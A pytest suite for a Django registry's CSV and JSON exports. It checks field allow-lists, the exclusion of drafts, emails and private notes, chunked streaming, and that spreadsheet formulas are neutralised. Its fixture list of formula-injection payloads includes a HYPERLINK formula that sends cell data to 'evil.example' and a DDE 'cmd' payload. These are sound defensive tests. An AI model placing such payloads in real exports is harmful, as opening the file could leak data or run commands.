import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse

from registry.discovery import exports
from registry.models import Writeup
from tests.factories import (
    FunderInterestFactory,
    ProposalFactory,
    TopicFactory,
    UserFactory,
    WriteupFactory,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def data():
    author = UserFactory(username="writer", email="secret-address@example.org")
    topic = TopicFactory(slug="open-topic", title="Open topic")
    WriteupFactory(topic=topic, author=author, title="Public writeup", published=True)
    WriteupFactory(topic=topic, author=author, title="DRAFT-ONLY", body="draft body")
    FunderInterestFactory(topic=topic, note="PRIVATE-NOTE", visibility="private")
    ProposalFactory(topic=topic, author=author, title="A proposal")
    TopicFactory(slug="suggested-one", state="suggested")


def _body(response):
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("name", ["topics", "writeups", "proposals"])
def test_export_csv_columns_are_the_allow_list(client, data, name):
    text = _body(client.get(f"/export/{name}.csv"))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == exports.columns(name)
    assert all(len(row) == len(rows[0]) for row in rows)


@pytest.mark.parametrize("name", ["topics", "writeups", "proposals"])
def test_export_json_keys_are_the_allow_list(client, data, name):
    rows = json.loads(_body(client.get(f"/export/{name}.json")))
    assert rows and all(sorted(row) == sorted(exports.columns(name)) for row in rows)


@pytest.mark.parametrize("url", [f"/export/{n}.{f}" for n in ("topics", "writeups", "proposals")
                                 for f in ("csv", "json")])
def test_export_leaves_out_drafts_emails_private_notes(client, data, url):
    text = _body(client.get(url))
    for secret in ("DRAFT-ONLY", "draft body", "PRIVATE-NOTE", "secret-address", "@example",
                   "suggested-one"):
        assert secret not in text


def test_export_rows_exact(client, data):
    topics = json.loads(_body(client.get("/export/topics.json")))
    assert [(t["slug"], t["status"], t["funder_interest"], t["published_writeups"])
            for t in topics] == [("open-topic", "gap", 1, 1)]
    writeups = json.loads(_body(client.get("/export/writeups.json")))
    assert [(w["title"], w["author"]) for w in writeups] == [("Public writeup", "writer")]


def test_export_unknown_name_is_404(client):
    assert client.get("/export/people.csv").status_code == 404


def test_export_streams_in_chunks(client, data, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 1)
    for i in range(5):
        TopicFactory(slug=f"bulk-{i}")
    response = client.get("/export/topics.csv")
    chunks = list(response.streaming_content)
    assert len(chunks) == 1 + 6  # the header, then one chunk per row


# --- Spreadsheet formula injection (OWASP "CSV Injection") --------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1",
            "＠SUM(A1)"]


@pytest.fixture
def formulas():
    # Stored straight (update()): the service strips surrounding whitespace from titles, and
    # the export must hold up whatever is stored.
    topic = TopicFactory(slug="formula-topic", title="Plain title")
    for text in [*FORMULAS, "Ends with =1+1 - fine"]:
        writeup = WriteupFactory(topic=topic, published=True)
        Writeup.objects.filter(pk=writeup.pk).update(title=text)


def test_export_csv_neutralises_cells_a_spreadsheet_would_run(client, formulas):
    rows = list(csv.DictReader(io.StringIO(_body(client.get("/export/writeups.csv")))))

    assert [row["title"] for row in rows] == [
        *("'" + text for text in FORMULAS), "Ends with =1+1 - fine"]


def test_export_json_keeps_the_true_text(client, formulas):
    rows = json.loads(_body(client.get("/export/writeups.json")))

    assert [row["title"] for row in rows] == [*FORMULAS, "Ends with =1+1 - fine"]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1", "'=1"), ("plain", "plain"), ("", ""), (-3, -3), (None, None), ("a=1", "a=1"),
])
def test_spreadsheet_safe_quotes_formula_starts_only(value, cell):
    assert exports.spreadsheet_safe(value) == cell


def test_recognitions_and_endorsements_export_public_fields_only(client, moderator):
    import json

    from registry import services as registry_services
    from tests.factories import ClusterFactory, TopicFactory, UserFactory, WriteupFactory

    cluster = ClusterFactory()
    author = UserFactory(username="writer")
    writeup = WriteupFactory(topic=TopicFactory(cluster=cluster, slug="t"), author=author,
                             published=True)
    peer = UserFactory(username="peer")
    WriteupFactory(topic=TopicFactory(cluster=cluster), author=peer, published=True)
    statement = "=HYPERLINK(1) It measured what nobody had measured before, carefully."
    registry_services.endorsement_create(writeup=writeup, endorser=peer, statement=statement)
    registry_services.recognition_record(topic=writeup.topic, moderator=moderator, name="Ada",
                                         work_title="Notes", work_url="https://example.org/n",
                                         reason="Reference.")
    rows = json.loads(b"".join(client.get("/export/endorsements.json").streaming_content))
    assert [(r["endorser"], r["topic"], r["statement"]) for r in rows] == [
        ("peer", "t", statement)]
    assert set(rows[0]) == {"id", "writeup", "topic", "endorser", "statement", "disclosure",
                            "created_at", "url"}
    csv_text = b"".join(client.get("/export/endorsements.csv").streaming_content).decode()
    assert "'=HYPERLINK" in csv_text
    recognitions = json.loads(b"".join(client.get("/export/recognitions.json")
                                       .streaming_content))
    assert [(r["name"], r["work_title"], r["source"]) for r in recognitions] == [
        ("Ada", "Notes", "moderator")]


def test_comments_export_public_comments_only(client, moderator):
    from proposals.models import Stage
    from registry.feedback.services.comments import comment_create, comment_delete
    from registry.moderation.services import content_hide
    from tests.factories import ProposalFactory, UserFactory, WriteupFactory

    commenter = UserFactory(username="reader")
    writeup = WriteupFactory(published=True)
    proposal = ProposalFactory()
    on_writeup = comment_create(target=writeup, author=commenter, body="=1+1 is the *claim*.")
    reply = comment_create(target=writeup, author=writeup.author, body="Fair.",
                           parent=on_writeup)
    on_proposal = comment_create(target=proposal, author=commenter, body="Which lab?",
                                 aspect="ask")
    deleted = comment_create(target=proposal, author=commenter, body="Gone soon.")
    comment_delete(comment=deleted, actor=commenter)
    hidden = comment_create(target=proposal, author=commenter, body="Hidden soon.")
    content_hide(moderator=moderator, target_type="comment", obj=hidden, reason="Spam.")
    hidden_writeup = WriteupFactory(published=True)
    comment_create(target=hidden_writeup, author=commenter, body="On a hidden writeup.")
    content_hide(moderator=moderator, target_type="writeup", obj=hidden_writeup,
                 reason="Checking.")
    assert proposal.stage == Stage.ANALYSIS

    rows = json.loads(_body(client.get("/export/comments.json")))

    assert [(r["id"], r["writeup"], r["proposal"], r["parent"], r["author"], r["aspect"],
             r["body"], r["url"].removeprefix("http://testserver")) for r in rows] == [
        (on_writeup.pk, writeup.pk, None, None, "reader", "", "=1+1 is the *claim*.",
         f"/comments/{on_writeup.pk}/"),
        (reply.pk, writeup.pk, None, on_writeup.pk, writeup.author.username, "", "Fair.",
         f"/comments/{reply.pk}/"),
        (on_proposal.pk, None, proposal.pk, None, "reader", "ask", "Which lab?",
         f"/comments/{on_proposal.pk}/"),
    ]
    assert "'=1+1 is the *claim*." in _body(client.get("/export/comments.csv"))
